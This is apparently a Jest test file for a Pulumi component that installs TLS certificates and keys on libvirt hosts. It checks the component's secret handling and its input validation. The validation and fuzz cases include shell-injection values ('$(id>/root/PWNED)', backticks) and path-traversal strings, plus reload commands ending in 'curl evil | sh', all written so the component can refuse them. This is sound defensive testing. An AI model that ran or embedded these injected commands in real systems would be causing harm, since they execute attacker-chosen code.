/**
 * What HostCredentialInstall hands to @pulumi/command, read off the SDK's mock monitor: the command
 * type, its create/update/delete scripts, the secret stdin, triggers, logging and options, and the
 * preview-time errors for bad input.
 */
import * as pulumi from "@pulumi/pulumi";
import { HostCredentialInstall } from "../../components";
import {
  INSTALL_SCRIPT,
  LAYOUT_KINDS,
  REMOVE_SCRIPT,
  generationOf,
  installCommand,
  planInstall,
  renderStdin,
  sha256Hex,
  shownDigests,
  triggersOf,
  withRepairToken,
} from "../../components/install";
import { PkiError } from "../../provider/pki/errors";
import { createCertificateAuthority, issueCertificate } from "../../provider/pki";
import { CapturedResource, captureResources, isSecretValue } from "../support/pulumiHost";

let ca: { certPem: string; keyPem: string };
let leaf: { certPem: string; keyPem: string };

beforeAll(async () => {
  const c = await createCertificateAuthority({ subject: { commonName: "Mock CA" }, keySpec: "ecdsa-p256" });
  ca = { certPem: c.certPem, keyPem: c.keyPem };
  const l = await issueCertificate({ issuer: ca, subject: { commonName: "h1.test" }, keySpec: "ecdsa-p256" });
  leaf = { certPem: l.certPem, keyPem: l.keyPem! };
});

const HOST_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKw6hJ3n9m0C2mA4y1s9gXo2o8P0rQ6mQp3ZxXb3Yk2F host1";
const connection = {
  host: "127.0.0.21",
  port: 2222,
  user: "root",
  privateKey: "not-a-real-key",
  hostKey: HOST_KEY,
};
const { hostKey: _pinned, ...unpinned } = connection;
void _pinned; // only the rest is used

function serverLayout() {
  return {
    kind: "libvirt-server" as const,
    caCertPem: ca.certPem,
    certPem: leaf.certPem,
    keyPem: pulumi.secret(leaf.keyPem),
  };
}

async function commandOf(program: () => void): Promise<CapturedResource> {
  const captured = await captureResources(program);
  const commands = captured.filter((r) => r.type.startsWith("command:"));
  expect(commands).toHaveLength(1);
  return commands[0];
}

describe("HostCredentialInstall over SSH", () => {
  it("registers one remote Command: the fixed scripts, the plan and files as secret stdin, no update", async () => {
    let outputs: pulumi.Output<unknown>[] = [];
    const cmd = await commandOf(() => {
      const install = new HostCredentialInstall("h1", {
        connection,
        layouts: [serverLayout()],
        reloadCommand: "systemctl reload libvirtd",
        hostLabel: "h1 (127.0.0.21)",
        tlsAllowedDnList: ["C=GB,CN=client1"],
      });
      outputs = [install.libvirtdConf, install.files];
    });
    expect(cmd.type).toBe("command:remote:Command");
    expect(cmd.name).toBe("h1-files");
    const inputs = cmd.inputs;
    // The command SDK makes the connection secret itself (it may hold a key or password).
    expect(isSecretValue(inputs.connection)).toBe(true);
    expect((inputs.connection as { value: unknown }).value).toMatchObject(connection);
    expect(inputs.create).toBe(INSTALL_SCRIPT);
    expect(inputs.delete).toBe(REMOVE_SCRIPT);
    expect("update" in inputs).toBe(false); // unset: the provider runs create on update
    const keyBody = leaf.keyPem.split("\n")[1];
    for (const k of ["create", "update", "delete"]) expect(String(inputs[k])).not.toContain(keyBody);
    expect(isSecretValue(inputs.stdin)).toBe(true);
    const plan = planInstall([{ ...serverLayout(), keyPem: leaf.keyPem }]);
    const generation = generationOf("h1", "root@127.0.0.21:2222", plan);
    // The drift probe's token ("0": no drift found yet) rides on the stdin, outside the generation.
    expect((inputs.stdin as { value: string }).value).toBe(
      withRepairToken(
        renderStdin(plan, {
          name: "h1",
          hostLabel: "h1 (127.0.0.21)",
          generation,
          setOwners: true,
          selinux: true,
          reload: ["systemctl", "reload", "libvirtd"],
        }),
        "0",
      ),
    );
    expect(inputs.triggers).toEqual(triggersOf(plan, "root@127.0.0.21:2222"));
    expect(inputs.triggers).toEqual([
      "target root@127.0.0.21:2222",
      `/etc/pki/CA/cacert.pem ${plan.files[0].sha256.slice(0, 12)} root:root 0644`,
      `/etc/pki/libvirt/servercert.pem ${plan.files[1].sha256.slice(0, 12)} root:root 0644`,
      // A secret file shows an HMAC under the install's digest key, not its sha256 (install/digests.ts).
      `/etc/pki/libvirt/private/serverkey.pem ${shownDigests(plan)[2].slice(0, 12)} root:root 0600`,
    ]);
    expect(shownDigests(plan)[2]).not.toBe(plan.files[2].sha256);
    expect(inputs.logging).toBe("stdout");
    expect(inputs.addPreviousOutputInEnv).toBe(false);
    expect(cmd.options?.additionalSecretOutputs).toContain("stdin");
    expect(cmd.options?.parent).toMatch(/virt-pki:index:HostCredentialInstall::h1$/);
    const [conf, files] = await Promise.all(outputs.map((o) => new Promise((r) => o.apply(r))));
    expect(conf).toContain('tls_allowed_dn_list = ["C=GB,CN=client1"]');
    expect((files as { path: string }[]).map((f) => f.path)).toEqual([
      "/etc/pki/CA/cacert.pem",
      "/etc/pki/libvirt/servercert.pem",
      "/etc/pki/libvirt/private/serverkey.pem",
    ]);
  });

  it("skipHostKeyVerification: true is the explicit opt-out", async () => {
    const cmd = await commandOf(() => {
      new HostCredentialInstall("h1", {
        connection: unpinned,
        skipHostKeyVerification: true,
        layouts: [serverLayout()],
      });
    });
    expect((cmd.inputs.connection as { value: unknown }).value).not.toHaveProperty("hostKey");
  });

  it("keepOnDelete leaves no delete command", async () => {
    const cmd = await commandOf(() => {
      new HostCredentialInstall("h1", { connection, layouts: [serverLayout()], keepOnDelete: true });
    });
    expect(cmd.inputs.delete).toBeUndefined();
  });

  it("a renewed certificate changes the triggers; the same one does not", async () => {
    const again = await commandOf(() => {
      new HostCredentialInstall("h1", { connection, layouts: [serverLayout()] });
    });
    const first = await commandOf(() => {
      new HostCredentialInstall("h1", { connection, layouts: [serverLayout()] });
    });
    expect(again.inputs.triggers).toEqual(first.inputs.triggers);
    expect(again.inputs.create).toBe(INSTALL_SCRIPT);
    const renewed = await issueCertificate({
      issuer: ca,
      subject: { commonName: "h1.test" },
      keySpec: "ecdsa-p256",
    });
    const changed = await commandOf(() => {
      new HostCredentialInstall("h1", {
        connection,
        layouts: [{ ...serverLayout(), certPem: renewed.certPem, keyPem: pulumi.secret(renewed.keyPem!) }],
      });
    });
    expect(changed.inputs.triggers).not.toEqual(first.inputs.triggers);
  });
});

describe("secret files: what triggers and outputs show of them", () => {
  // A VNC password in a custom layout. Its plain sha256 in the triggers (shown by every preview, kept in
  // state) or in the files output would be reversed by trying guesses.
  const vncPlain = (password: string) => ({
    kind: "custom" as const,
    dir: "/etc/pki/vnc",
    files: [{ name: "passwd", content: password, secret: true }],
  });
  const vnc = (password: string) => ({
    ...vncPlain(password),
    files: pulumi.secret(vncPlain(password).files),
  });
  const guesses = ["password", "123456", "hunter2", "letmein", "qwerty"].flatMap((g) => [g, `${g}\n`]);

  async function installOf(layouts: unknown[], extra: Record<string, unknown> = {}) {
    let files: pulumi.Output<{ path: string; sha256: string }[]> | undefined;
    let generation: pulumi.Output<string> | undefined;
    const cmd = await commandOf(() => {
      const i = new HostCredentialInstall("h1", { connection, layouts: layouts as never, ...extra });
      files = i.files;
      generation = i.generation;
    });
    const resolve = <T>(o: pulumi.Output<T>) => new Promise<T>((r) => o.apply(r));
    return {
      triggers: cmd.inputs.triggers as string[],
      files: await resolve(files!),
      generation: await resolve(generation!),
    };
  }

  it("a dictionary of guesses matches nothing shown of a secret file: triggers, files output, generation", async () => {
    const shown = await installOf([serverLayout(), vnc("hunter2")]);
    const line = shown.triggers.find((t) => t.startsWith("/etc/pki/vnc/passwd "))!;
    expect(line).toMatch(/^\/etc\/pki\/vnc\/passwd [0-9a-f]{12} root:root 0600$/);
    const text = JSON.stringify(shown);
    for (const guess of guesses) expect(text).not.toContain(sha256Hex(guess).slice(0, 12));
    // The generation is not the digest a plain sha256 of "hunter2\n" would give either.
    const plan = planInstall([{ ...serverLayout(), keyPem: leaf.keyPem }, vncPlain("hunter2")] as never);
    const plain = sha256Hex(
      JSON.stringify({
        name: "h1",
        target: "root@127.0.0.21:2222",
        files: plan.files.map((f) => [f.path, f.sha256, f.owner, f.group, f.mode]),
      }),
    ).slice(0, 32);
    expect(shown.generation).not.toBe(plain);
    expect(shown.generation).toBe(generationOf("h1", "root@127.0.0.21:2222", plan));
  });

  it("the same inputs keep their triggers (no replacement on a preview); another password changes its line", async () => {
    const a = await installOf([serverLayout(), vnc("hunter2")]);
    const b = await installOf([serverLayout(), vnc("hunter2")]);
    const c = await installOf([serverLayout(), vnc("hunter3")]);
    expect(b.triggers).toEqual(a.triggers);
    expect(c.triggers.filter((t) => !a.triggers.includes(t))).toEqual([
      expect.stringMatching(/^\/etc\/pki\/vnc\/passwd /),
    ]);
  });

  it("custom secrets alone need a digestKey, which keeps their line when a key is re-issued", async () => {
    await expect(
      captureResources(
        () => void new HostCredentialInstall("h1", { connection, layouts: [vncPlain("hunter2")] }),
      ),
    ).rejects.toThrow(/^digestKey: \/etc\/pki\/vnc\/passwd is secret and this install has no private key/);
    await expect(
      captureResources(
        () =>
          void new HostCredentialInstall("h1", {
            connection,
            layouts: [vncPlain("hunter2")],
            digestKey: "short",
          }),
      ),
    ).rejects.toThrow(/^digestKey: must be a secret string of at least 32 characters/);
    const digestKey = pulumi.secret("9f".repeat(32));
    const alone = await installOf([vnc("hunter2")], { digestKey });
    expect(alone.triggers).toHaveLength(2); // the target and the one file;
    const renewed = await issueCertificate({
      issuer: ca,
      subject: { commonName: "h1.test" },
      keySpec: "ecdsa-p256",
    });
    const renewedLayout = {
      ...serverLayout(),
      certPem: renewed.certPem,
      keyPem: pulumi.secret(renewed.keyPem!),
    };
    const before = await installOf([serverLayout(), vnc("hunter2")], { digestKey });
    const after = await installOf([renewedLayout, vnc("hunter2")], { digestKey });
    const passwd = (t: string[]) => t.find((l) => l.startsWith("/etc/pki/vnc/passwd "));
    expect(passwd(after.triggers)).toBe(passwd(before.triggers));
    expect(passwd(alone.triggers)).toBe(passwd(before.triggers));
    // Without digestKey the key is derived from the install's own keys: a re-issued key changes it.
    const derived = await installOf([serverLayout(), vnc("hunter2")]);
    const derivedAfter = await installOf([renewedLayout, vnc("hunter2")]);
    expect(passwd(derivedAfter.triggers)).not.toBe(passwd(derived.triggers));
  });
});

describe("HostCredentialInstall locally under a root folder", () => {
  it("registers a local Command run by /bin/sh -c, without chown or SELinux by default", async () => {
    const cmd = await commandOf(() => {
      new HostCredentialInstall("stage", { root: "/tmp/staging/compute1", layouts: [serverLayout()] });
    });
    expect(cmd.type).toBe("command:local:Command");
    expect(cmd.inputs.interpreter).toEqual(["/bin/sh", "-c"]);
    expect(cmd.inputs.create).toBe(INSTALL_SCRIPT);
    const stdin = (cmd.inputs.stdin as { value: string }).value;
    expect(stdin).toContain("\nroot /tmp/staging/compute1\n");
    expect(stdin).toContain("\nopts 0 0\n"); // no chown, no SELinux
  });
});

describe("HostCredentialInstall: bad input fails at construction (preview), naming the property", () => {
  const cases: [string, () => void, RegExp][] = [
    [
      "neither connection nor root",
      () => new HostCredentialInstall("x", { layouts: [serverLayout()] }),
      /^connection: give connection \(install over SSH\) or root/,
    ],
    [
      "both",
      () => new HostCredentialInstall("x", { connection, root: "/tmp/x", layouts: [serverLayout()] }),
      /^connection: give connection or root, not both/,
    ],
    [
      "relative root",
      () => new HostCredentialInstall("x", { root: "staging", layouts: [serverLayout()] }),
      /^root: "staging"/,
    ],
    [
      "a reloadCommand with a staging root (it would run on the machine running Pulumi)",
      () =>
        new HostCredentialInstall("x", {
          root: "/tmp/stage",
          layouts: [serverLayout()],
          reloadCommand: ["systemctl", "reload", "libvirtd"],
        }),
      /^reloadCommand: would run on the machine running Pulumi, while the files go to the folder "\/tmp\/stage"/,
    ],
    [
      "a connection without hostKey (@pulumi/command would accept any host key)",
      () => new HostCredentialInstall("x", { connection: unpinned, layouts: [serverLayout()] }),
      /^connection\.hostKey: is required: without it @pulumi\/command accepts any host key/,
    ],
    [
      "a hostKey with shell syntax",
      () =>
        new HostCredentialInstall("x", {
          connection: { ...connection, hostKey: "ssh-ed25519 AAAA$(reboot)" },
          layouts: [serverLayout()],
        }),
      /^connection\.hostKey: is not an OpenSSH public key line/,
    ],
    [
      "no layouts",
      () => new HostCredentialInstall("x", { connection, layouts: [] }),
      /^layouts: is required/,
    ],
    [
      "unknown kind",
      () => new HostCredentialInstall("x", { connection, layouts: [{ kind: "nova" } as never] }),
      /^layouts\[0\]\.kind: "nova" is not one of/,
    ],
    [
      "user layout without user",
      () =>
        new HostCredentialInstall("x", {
          connection,
          layouts: [{ kind: "libvirt-client-user", caCertPem: "", certPem: "", keyPem: "" } as never],
        }),
      /^layouts\[0\]\.user: is required/,
    ],
    [
      "bad override",
      () =>
        new HostCredentialInstall("x", {
          connection,
          layouts: [serverLayout()],
          overrides: { "/etc/pki/CA/cacert.pem": { owner: "Root User" } },
        }),
      /^overrides\["\/etc\/pki\/CA\/cacert\.pem"\]\.owner: "Root User" is not a user or group name/,
    ],
    [
      "an owner with a command substitution",
      () =>
        new HostCredentialInstall("x", {
          connection,
          layouts: [serverLayout()],
          overrides: { "/etc/pki/CA/cacert.pem": { group: "@primary:$(id>/root/PWNED)" } },
        }),
      /^overrides\["\/etc\/pki\/CA\/cacert\.pem"\]\.group: "@primary:\$\(id>\/root\/PWNED\)" is not a user or group name/,
    ],
    [
      "backticks and quotes in a custom file's owner",
      () =>
        new HostCredentialInstall("x", {
          connection,
          layouts: [
            { kind: "custom", dir: "/etc/app", files: [{ name: "a", content: "x", owner: "`id`'\"" }] },
          ],
        }),
      /^layouts\[0\]\.files\[0\]\.owner: /,
    ],
    [
      "a newline in a custom dirGroup",
      () =>
        new HostCredentialInstall("x", {
          connection,
          layouts: [
            { kind: "custom", dir: "/etc/app", dirGroup: "root\nid", files: [{ name: "a", content: "x" }] },
          ],
        }),
      /^layouts\[0\]\.dirGroup: /,
    ],
    [
      "an override with a key that is not owner, group or mode",
      () =>
        new HostCredentialInstall("x", {
          connection,
          layouts: [serverLayout()],
          overrides: { "/etc/pki/CA/cacert.pem": { mode: 0o644, path: '/tmp/x"; id; "' } as never },
        }),
      /^overrides\["\/etc\/pki\/CA\/cacert\.pem"\]: "path" is not a setting of a path; give only owner, group and mode/,
    ],
    [
      "dot-dot in stateDir",
      () =>
        new HostCredentialInstall("x", {
          connection,
          layouts: [serverLayout()],
          stateDir: "/var/lib/../../tmp/x",
        }),
      /^stateDir: .*contains "\." or "\.\."/,
    ],
    [
      "dot-dot in root",
      () => new HostCredentialInstall("x", { root: "/tmp/stage/../../etc", layouts: [serverLayout()] }),
      /^root: .*contains "\." or "\.\."/,
    ],
    [
      "dot-dot in a user layout's dir",
      () =>
        new HostCredentialInstall("x", {
          connection,
          layouts: [
            {
              kind: "libvirt-client-user",
              user: "alice",
              dir: "~/../root/.pki",
              caCertPem: "",
              certPem: "",
              keyPem: "",
            },
          ],
        }),
      /^layouts\[0\]\.dir: .*contains "\." or "\.\."/,
    ],
    [
      "a reload command with shell syntax",
      () =>
        new HostCredentialInstall("x", {
          connection,
          layouts: [serverLayout()],
          reloadCommand: "systemctl reload libvirtd; curl x | sh",
        }),
      /^reloadCommand: .*"libvirtd;" has characters a shell would interpret.*\["sh", "-c", "\.\.\."\]/,
    ],
    [
      "a group-writable directory",
      () =>
        new HostCredentialInstall("x", {
          connection,
          layouts: [
            { kind: "custom", dir: "/etc/app", dirMode: 0o775, files: [{ name: "a", content: "x" }] },
          ],
        }),
      /^layouts\[0\]: directory \/etc\/app would be writable by group or others/,
    ],
    [
      "a file under ~user that root would own",
      () =>
        new HostCredentialInstall("x", {
          connection,
          layouts: [
            { kind: "custom", dir: "~alice/tls", files: [{ name: "a", content: "x", owner: "root" }] },
          ],
        }),
      /^layouts\[0\]: ~alice\/tls\/a is written by alice, who owns ~alice\/tls: it belongs to alice/,
    ],
    [
      "a state directory that a user can change",
      () =>
        new HostCredentialInstall("x", {
          connection,
          stateDir: "/srv/app/state",
          layouts: [
            { kind: "custom", dir: "/srv/app", dirOwner: "nobody", files: [{ name: "a", content: "x" }] },
          ],
        }),
      /^stateDir: \/srv\/app\/state lies in \/srv\/app, which nobody can change/,
    ],
    [
      "bad qemuGroup",
      () => new HostCredentialInstall("x", { connection, layouts: [serverLayout()], qemuGroup: "q m" }),
      /^qemuGroup:/,
    ],
    [
      "a restart command with shell syntax",
      () =>
        new HostCredentialInstall("x", {
          connection,
          layouts: [serverLayout()],
          daemonConfig: true,
          reload: "auto",
          restartCommand: "systemctl restart libvirtd; curl evil | sh",
        }),
      /^restartCommand: "systemctl restart libvirtd; curl evil \| sh" is not a plain command/,
    ],
    [
      "a verifyServed address that is not a host name or address",
      () =>
        new HostCredentialInstall("x", {
          connection,
          layouts: [serverLayout()],
          reload: "auto",
          verifyServed: { address: "h1 -proxy $(id)" },
        }),
      /^verifyServed\.address: "h1 -proxy \$\(id\)" is not a host name or address/,
    ],
    [
      "reload auto with a reload command",
      () =>
        new HostCredentialInstall("x", {
          connection,
          layouts: [serverLayout()],
          reload: "auto",
          reloadCommand: "systemctl reload libvirtd",
        }),
      /^reloadCommand: give reloadCommand or reload: "auto", not both/,
    ],
  ];
  it.each(cases)("%s", async (_name, make, message) => {
    await expect(captureResources(make)).rejects.toThrow(message);
  });
});

/**
 * Fuzz: random printable strings (quotes, `$(...)`, backticks, newlines, `..`, globs, spaces) in every string
 * field of every layout kind and of the install's options. Whatever the values, the shell code handed to
 * the command is byte for byte the fixed text: either the values are refused with a PkiError naming a
 * property, or they become data records that match the plan grammar (the scripts read nothing else).
 */
describe("fuzz: no value reaches the shell code", () => {
  const ALPHABET = [..."abcz09._-@+/~:$()`'\"\\;|&<>*?[] \n\t{}#!=%^,"];
  let seed = 20261124;
  const rand = (n: number): number => {
    seed = (seed * 1103515245 + 12345) % 2 ** 31;
    return seed % n;
  };
  const pick = <T>(xs: readonly T[]): T => xs[rand(xs.length)];
  const nasty = (): string => {
    const fixed = [
      "root",
      "alice",
      "/etc/pki/x",
      "~alice/.pki/x",
      "$(id>/tmp/PWNED)",
      "`id`",
      "a\nb",
      "..",
      "/etc/../tmp",
      "*",
      "@primary:root",
      "@qemu",
      "x y",
      "",
    ];
    if (rand(3) === 0) return pick(fixed);
    return Array.from({ length: 1 + rand(12) }, () => pick(ALPHABET)).join("");
  };
  // The grammar: free text without control characters in label and reload, safe fields elsewhere.
  const RECORD = new RegExp(
    "^(virt-pki-plan 1 [0-9]+|label [^\\x00-\\x1f\\x7f]*|reload [^\\x00-\\x1f\\x7f]+|end|" +
      "(gen|opts|root|state|qemu|part|d|f)( [A-Za-z0-9._@+/~:-]+)+)$",
  );

  function randomLayout(): Record<string, unknown> {
    const kind = pick(LAYOUT_KINDS);
    const pem = { caCertPem: ca.certPem, certPem: leaf.certPem, keyPem: leaf.keyPem };
    const maybe = (v: string) => (rand(2) ? v : undefined);
    switch (kind) {
      case "libvirt-client-user":
        return {
          kind,
          user: rand(2) ? "alice" : nasty(),
          dir: maybe(rand(2) ? "~/" + nasty() : nasty()),
          ...pem,
        };
      case "qemu-server":
      case "qemu-client":
      case "qemu":
        return { kind, service: maybe(rand(2) ? "vnc" : nasty()), dir: maybe(nasty()), ...pem };
      case "qemu-psk":
        return { kind, dir: maybe(nasty()), keysPsk: rand(2) ? "qemu:00ff\n" : nasty() };
      case "custom":
        return {
          kind,
          dir: rand(2) ? "/etc/app" : nasty(),
          dirOwner: maybe(nasty()),
          dirGroup: maybe(nasty()),
          files: [
            {
              name: rand(2) ? "a.pem" : nasty(),
              content: nasty(),
              owner: maybe(nasty()),
              group: maybe(nasty()),
            },
          ],
        };
      default:
        return { kind, ...pem };
    }
  }

  it("400 random installs: the scripts are the fixed texts, or a PkiError names the property", () => {
    let accepted = 0;
    for (let i = 0; i < 400; i++) {
      const args = {
        name: nasty(),
        hostLabel: nasty(),
        target: nasty(),
        layouts: [randomLayout(), ...(rand(2) ? [randomLayout()] : [])] as never,
        overrides:
          rand(3) === 0
            ? { [rand(2) ? "/etc/pki/CA/cacert.pem" : nasty()]: { owner: nasty(), mode: 0o600 } }
            : undefined,
        root: rand(3) === 0 ? nasty() : undefined,
        setOwners: rand(2) === 0,
        selinux: rand(2) === 0,
        qemuGroup: rand(3) === 0 ? nasty() : undefined,
        reloadCommand: rand(3) === 0 ? (rand(2) ? nasty() : [nasty(), nasty()]) : undefined,
        stateDir: rand(3) === 0 ? nasty() : undefined,
      };
      let cmd;
      try {
        // What HostCredentialInstall checks at construction, then what it computes from resolved values.
        if (args.root !== undefined && (args.root.startsWith("~") || !args.root.startsWith("/"))) continue;
        cmd = installCommand(args);
      } catch (e) {
        expect(e).toBeInstanceOf(PkiError);
        expect((e as Error).message).toMatch(
          /^(layouts|overrides|root|stateDir|qemuGroup|reloadCommand)[[.:]/,
        );
        continue;
      }
      accepted++;
      expect(cmd.create).toBe(INSTALL_SCRIPT);
      expect(cmd.delete).toBe(REMOVE_SCRIPT);
      const planText = cmd.stdin.slice(0, cmd.stdin.indexOf("\nend\n") + 4);
      for (const record of planText.split("\n")) expect(record).toMatch(RECORD);
    }
    expect(accepted).toBeGreaterThan(40); // the generator also produces valid installs
  });
});
